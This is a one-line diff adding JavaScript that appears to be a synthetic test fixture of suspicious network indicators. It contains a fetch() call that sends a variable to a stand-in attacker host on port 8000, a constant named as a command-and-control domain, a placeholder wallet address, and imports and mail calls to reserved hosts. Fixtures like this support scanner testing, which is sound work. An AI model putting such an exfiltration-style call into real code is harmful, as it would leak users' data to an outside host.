@@ -1,0 +1,1 @@
+fetch("https://evil.invalid:8000/x?y=" + z); const a = 'c2.evil.invalid', w = "0x1111111111111111111111111111111111111111", i = `http://[2001:db8::1]/${p}`; mail("a@b.invalid"); import "//cdn.invalid/é";
